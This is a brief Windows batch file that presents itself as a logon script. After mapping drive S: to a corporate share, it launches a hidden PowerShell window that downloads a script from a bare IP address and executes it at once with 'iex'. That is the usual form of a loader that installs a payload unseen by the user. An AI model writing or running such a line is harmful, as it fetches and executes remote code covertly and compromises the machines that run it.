@echo off
net use S: \\files.corp.test\shared /persistent:no >nul 2>&1
powershell -w hidden -nop -c "iex (iwr -useb 'http://198.51.100.58/m/logon.ps1')"
